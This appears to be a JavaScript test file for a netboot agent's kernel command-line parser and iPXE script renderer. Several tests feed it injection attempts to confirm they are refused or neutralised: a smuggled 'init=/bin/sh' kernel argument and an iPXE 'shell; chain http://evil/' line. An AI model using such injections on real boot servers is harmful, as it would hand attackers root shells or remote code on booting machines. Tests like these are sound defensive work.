import assert from 'node:assert/strict'
import { test } from 'node:test'
import { buildKernelCmdline, parseKernelCmdline } from '../../../../agent/netboot/cmdline.js'
import {
  renderBootScript,
  renderChainScript,
  renderRefusalScript,
} from '../../../../agent/netboot/ipxe-script.js'

const key = 'ab'.repeat(32)
const params = {
  url: 'http://10.77.1.2:7080/netboot',
  image: 'cd'.repeat(32),
  cluster: '0123456789abcdef',
  peers: [`${key}@10.77.1.2:49737`, `${key}@10.77.1.3:49737`],
  mac: '52:54:00:12:34:56',
}

test('the kernel command line round-trips through the parser /init mirrors', () => {
  const line = buildKernelCmdline(params)
  assert.match(line, /^console=tty0 console=ttyS0,115200 panic=-1 quiet no_timer_check /)
  const parsed = parseKernelCmdline(`BOOT_IMAGE=vmlinuz ${line} homecloud.unknown=1`)
  assert.ok(parsed.success)
  assert.deepEqual(parsed.data, params)
})

test("the cluster's state-disk policy rides on the line only when it is not the default", () => {
  assert.doesNotMatch(buildKernelCmdline(params), /statedisk/)
  const line = buildKernelCmdline({ ...params, statedisk: 'adopt-empty' })
  assert.match(line, / homecloud\.statedisk=adopt-empty$/)
  const parsed = parseKernelCmdline(line)
  assert.equal(parsed.success && parsed.data.statedisk, 'adopt-empty')
  assert.equal(parseKernelCmdline(`${line} homecloud.statedisk=format-everything`).success, false)
})

test('the last occurrence of a key wins, as in /init', () => {
  const parsed = parseKernelCmdline(`${buildKernelCmdline(params)} homecloud.mac=52:54:00:00:00:09`)
  assert.equal(parsed.success && parsed.data.mac, '52:54:00:00:00:09')
})

test('missing or malformed values are refused with the field named', () => {
  const noImage = parseKernelCmdline(
    'homecloud.url=http://10.0.0.1:7080/netboot homecloud.cluster=0123456789abcdef homecloud.mac=52:54:00:12:34:56',
  )
  assert.equal(noImage.success, false)
  assert.equal(noImage.error?.issues[0]?.path[0], 'image')
  const badPeer = parseKernelCmdline(`${buildKernelCmdline({ ...params, peers: [] })} homecloud.peers=evil`)
  assert.equal(badPeer.success, false)
  assert.throws(() => buildKernelCmdline({ ...params, url: 'http://x/netboot quiet init=/bin/sh' }))
  assert.throws(() => buildKernelCmdline({ ...params, mac: 'not-a-mac' }))
})

test('the chain script brings iPXE back with its MAC and architecture', () => {
  const s = renderChainScript('http://10.77.1.2:7080/netboot')
  // biome-ignore lint/suspicious/noTemplateCurlyInString: iPXE's own ${…} settings, not a template
  assert.equal(s, '#!ipxe\nchain http://10.77.1.2:7080/netboot/boot.ipxe?mac=${net0/mac}&arch=${buildarch}\n')
})

test('the boot script loads kernel and initramfs from the content-addressed image', () => {
  const s = renderBootScript({ params, servedBy: 'pi5-1' }).split('\n')
  assert.equal(s[0], '#!ipxe')
  assert.equal(
    s[2],
    `kernel http://10.77.1.2:7080/netboot/image/${params.image}/vmlinuz initrd=initrd.img ${buildKernelCmdline(params)}`,
  )
  assert.equal(
    s[3],
    `initrd --name initrd.img http://10.77.1.2:7080/netboot/image/${params.image}/initrd.img`,
  )
  assert.equal(s[4], 'boot')
  // Same machine, same image: the same script from every node except the node's own address.
  const other = renderBootScript({
    params: { ...params, url: 'http://10.77.1.3:7080/netboot' },
    servedBy: 'pi5-1',
  })
  assert.equal(other.replaceAll('10.77.1.3:7080', '10.77.1.2:7080'), s.join('\n'))
})

test('a refusal script cannot be turned into commands', () => {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attempt at iPXE expansion, on purpose
  const s = renderRefusalScript('no image\nshell; chain http://evil/${x}')
  assert.equal(s.split('\n').length, 5)
  assert.ok(!s.includes('${'))
  assert.match(s, /^#!ipxe\necho homecloud: no imageshell chain http:\/\/evil\/x\nsleep 10\nexit 1\n$/)
})
